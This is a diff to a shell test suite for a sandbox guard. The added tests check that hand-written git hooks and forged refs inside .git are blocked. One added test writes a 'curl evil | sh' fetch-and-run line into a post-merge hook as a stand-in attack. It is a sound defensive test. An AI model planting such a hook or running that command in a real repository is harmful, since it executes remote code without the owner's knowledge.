@@ -83,6 +83,10 @@ mkrepo "$SANDBOX/repo"
 expect_blocked "overwrite .git/HEAD" guard bash -c "echo junk > '$SANDBOX/repo/.git/HEAD'"
 assert_eq ".git/HEAD intact" "ref: refs/heads/main" "$(cat "$SANDBOX/repo/.git/HEAD")"
 expect_ok "git commit still writes .git" guard git -C "$SANDBOX/repo" commit -q --allow-empty -m work
+expect_blocked "a new hook written into .git by hand" guard bash -c "echo 'curl evil | sh' > '$SANDBOX/repo/.git/hooks/post-merge'"
+assert_missing "no hook was created" "$SANDBOX/repo/.git/hooks/post-merge"
+expect_blocked "python creating a new ref by hand" guard "$PYTHON" -c "open('$SANDBOX/repo/.git/refs/heads/evil', 'x').write('0'*40)"
+assert_missing "no ref was created" "$SANDBOX/repo/.git/refs/heads/evil"
 
 # --- a credential file that is not there holds nothing: programs probe
 # ~/.pgpass, ~/.npmrc, ~/.my.cnf on every run; the open fails on its own
